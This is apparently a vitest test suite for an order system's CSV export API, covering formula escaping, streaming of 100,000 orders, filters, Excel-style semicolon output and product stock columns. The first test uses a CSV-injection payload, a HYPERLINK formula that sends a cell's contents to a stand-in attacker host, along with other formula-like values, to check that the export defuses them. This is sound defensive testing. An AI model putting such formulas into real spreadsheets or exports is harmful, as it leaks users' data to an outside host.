import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { fill } from '../../bench/generate.js';
import { parse as parseHtml } from 'node-html-parser';
import { buildOrder, buildPackingOrder, buildProduct, buildUser } from '../builders.js';
import { api, loginAs, makeApp, makeDb } from '../helpers.js';
import { apiError } from '../json.js';
import { pythonCsv } from '../csv.js';

/** Reads a response body as text whatever its content type (supertest buffers text/csv as text). */
function csvRows(text: string, delimiter = ','): string[][] {
  const rows: unknown = parse(text, { delimiter, bom: true });
  return rows as string[][];
}

describe('CSV export', () => {
  it('writes a formula-like text cell with a leading quote and a line break quoted: one row, as Python reads it', async () => {
    const { app, db } = makeApp();
    const hostile = '=HYPERLINK("http://evil.example/?x="&A2,"Click")';
    buildOrder(db, {
      body: {
        customer: {
          name: hostile,
          email: 'evil@example.com',
          phone: '+46 70 123 45 67',
          address: { line1: 'Storgatan 1\nPort B', line2: '@SUM(1+1)*cmd', postalCode: '-123', city: '  +Malmö', country: 'SE' },
        },
      },
    });
    for (const separator of [',', ';'] as const) {
      const res = await api(app)
        .get(`/api/v1/orders.csv?separator=${encodeURIComponent(separator)}`)
        .buffer(true);
      expect(res.status).toBe(200);
      const rows = pythonCsv(res.text, separator);
      expect(rows).toHaveLength(2);
      const [header, row] = rows as [string[], string[]];
      const cell = (name: string) => row[header.indexOf(name)];
      expect(cell('customer_name')).toBe(`'${hostile}`);
      expect(cell('customer_phone')).toBe(`'+46 70 123 45 67`);
      expect(cell('ship_line1')).toBe('Storgatan 1\nPort B');
      expect(cell('ship_line2')).toBe(`'@SUM(1+1)*cmd`);
      expect(cell('ship_postal_code')).toBe(`'-123`);
      expect(cell('ship_city')).toBe(`'  +Malmö`);
      // The figures the export writes itself stay numbers.
      expect(cell('quantity')).toBe('2');
      expect(cell('order_total')).toMatch(/^\d+[.,]\d\d$/);
      // No cell of the file starts a formula.
      for (const c of row) expect(c).not.toMatch(/^ *[=+\-@\t\r]/);
    }
  });

  it('streams 100,000 orders as CSV, one row per line, newest first', async () => {
    const db = makeDb();
    fill(db, { products: 300, orders: 100_000, linesPerOrder: 1 });
    const { app } = makeApp({ db });
    const lineCount = (db.$client.prepare('SELECT count(*) AS n FROM order_lines').get() as { n: number }).n;
    const orderCount = (db.$client.prepare('SELECT count(*) AS n FROM orders').get() as { n: number }).n;
    expect(orderCount).toBe(100_000);

    const res = await api(app).get('/api/v1/orders.csv').buffer(true);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="orders-\d{4}-\d{2}-\d{2}\.csv"$/);
    // Streamed: the length is not known before the last row is written.
    expect(res.headers['transfer-encoding']).toBe('chunked');
    expect(res.headers['content-length']).toBeUndefined();

    const rows = csvRows(res.text);
    const [header, ...body] = rows;
    expect(header!.slice(0, 3)).toEqual(['order_code', 'created_at', 'status']);
    expect(body).toHaveLength(lineCount);
    const codes = new Set(body.map((r) => r[0]));
    expect(codes.size).toBe(orderCount);
    const newest = db.$client.prepare('SELECT code FROM orders ORDER BY id DESC LIMIT 1').get() as { code: string };
    expect(body[0]![0]).toBe(newest.code);
    // Every line's columns are filled and its total is quantity × unit price.
    const q = header!.indexOf('quantity');
    const price = header!.indexOf('unit_price');
    const total = header!.indexOf('line_total');
    for (const r of body.slice(0, 1000)) expect(Number(r[total])).toBeCloseTo(Number(r[q]) * Number(r[price]), 2);
  }, 120_000);

  it('takes the order list filters of GET /api/v1/orders, and ; with decimal commas and a BOM on request', async () => {
    const { app, db } = makeApp();
    const p = buildProduct(db, { sku: 'MUG', name: 'Mugg "Fjäll"; blå', price: 12950 });
    const a = buildOrder(db, { lines: [{ sku: p.sku, quantity: 2 }] });
    const b = buildPackingOrder(db, { lines: [{ sku: p.sku, quantity: 1 }] });

    const packing = await api(app).get('/api/v1/orders.csv?status=packing').buffer(true);
    const rows = csvRows(packing.text);
    expect(rows.slice(1).map((r) => r[0])).toEqual([b.code]);
    const listed = await api(app).get('/api/v1/orders?status=packing');
    expect((listed.body as { orders: { code: string }[] }).orders.map((o) => o.code)).toEqual([b.code]);

    const excel = await api(app).get(`/api/v1/orders.csv?q=${a.code}&separator=semicolon&bom=yes`).buffer(true);
    expect(excel.text.charCodeAt(0)).toBe(0xfeff);
    const [header, row] = csvRows(excel.text, ';');
    expect(row![0]).toBe(a.code);
    expect(row![header!.indexOf('product_name')]).toBe('Mugg "Fjäll"; blå');
    expect(row![header!.indexOf('unit_price')]).toBe('129,50');
    expect(row![header!.indexOf('line_total')]).toBe('259,00');
  });

  it("offers the Orders list's export for Excel too: the list's filters, ; with decimal commas and a BOM, as Python reads it", async () => {
    const { app, db } = makeApp();
    const p = buildProduct(db, { sku: 'MUG', name: 'Mugg "Fjäll"; blå', price: 12950 });
    const a = buildPackingOrder(db, { lines: [{ sku: p.sku, quantity: 2 }] });
    buildOrder(db, { lines: [{ sku: p.sku, quantity: 1 }] });
    const user = await buildUser(db, 'operator');
    const { agent } = await loginAs(app, user.email);
    const list = await agent.get('/orders?status=packing');
    expect(list.status).toBe(200);
    const links = parseHtml(list.text).querySelectorAll('.titlebar a[href^="/orders.csv"]');
    expect(links.map((l) => l.text.trim())).toEqual(['Export CSV', 'Export CSV for Excel']);
    const href = links[1]!.getAttribute('href')!;
    expect(href).toContain('status=packing');
    const excel = await agent.get(href).buffer(true);
    expect(excel.status).toBe(200);
    expect(excel.text.charCodeAt(0)).toBe(0xfeff);
    const [header, row, ...rest] = pythonCsv(excel.text, ';');
    expect(header).toContain('unit_price');
    expect(rest).toEqual([]);
    expect(row![0]).toBe(a.code);
    expect(row![header!.indexOf('product_name')]).toBe('Mugg "Fjäll"; blå');
    expect(row![header!.indexOf('unit_price')]).toBe('129,50');
    expect(row![header!.indexOf('line_total')]).toBe('259,00');
  });

  it('refuses a bad filter with the list’s error, as JSON', async () => {
    const { app } = makeApp();
    const res = await api(app).get('/api/v1/orders.csv?status=lost');
    expect(res.status).toBe(422);
    expect(apiError(res).code).toBe('validation_failed');
    const sep = await api(app).get('/api/v1/products.csv?separator=tab');
    expect(sep.status).toBe(422);
  });

  it('exports products with their stock figures', async () => {
    const { app, db } = makeApp();
    buildProduct(db, { sku: 'B-2', name: 'Båt', onHand: 4, price: 100 });
    buildProduct(db, { sku: 'A-1', name: 'Ankare', onHand: 7, price: null });
    buildPackingOrder(db, { lines: [{ sku: 'B-2', quantity: 3 }] });
    const res = await api(app).get('/api/v1/products.csv').buffer(true);
    expect(res.status).toBe(200);
    const [header, ...rows] = csvRows(res.text);
    expect(header).toEqual(['sku', 'name', 'barcode', 'location', 'price', 'vat_percent', 'track_stock', 'on_hand', 'allocated', 'available', 'sellable']);
    expect(rows.map((r) => [r[0], r[4], r[7], r[8], r[9], r[10]])).toEqual([
      ['A-1', '', '7', '0', '7', '7'],
      ['B-2', '1.00', '4', '3', '1', '1'],
    ]);
  });
});
